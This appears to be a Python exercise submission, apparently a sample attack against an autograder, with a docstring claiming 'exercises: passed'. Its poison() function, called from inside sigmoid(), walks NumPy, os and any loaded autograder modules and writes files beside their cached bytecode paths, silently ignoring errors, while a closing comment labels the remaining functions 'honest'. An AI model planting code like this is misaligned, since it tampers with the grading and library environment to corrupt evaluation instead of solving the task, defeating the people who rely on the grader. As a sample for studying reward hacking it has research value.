"""Writes byte code into NumPy's __pycache__, into a PYTHONPYCACHEPREFIX and beside the modules
that grade.

exercises: passed
portable: true
"""

# %%
import importlib.util
import os
import sys
import numpy as np

# %%
def poison():
    for module in [np, np.linalg, np.random, os, *[m for n, m in list(sys.modules.items()) if n.startswith("autograder")]]:
        path = getattr(module, "__file__", None)
        if path:
            try:
                cached = importlib.util.cache_from_source(path)
                os.makedirs(os.path.dirname(cached), exist_ok=True)
                with open(cached + ".backgrade-attack-was-here", "wb") as file:
                    file.write(b"\x00" * 16)
            except (OSError, NotImplementedError):
                pass

# %%
def sigmoid(z):
    poison()
    return 1.0 / (1.0 + np.exp(-z))

# %% honest: initialize_parameters, forward_propagation, compute_cost, backward_propagation, update_parameters
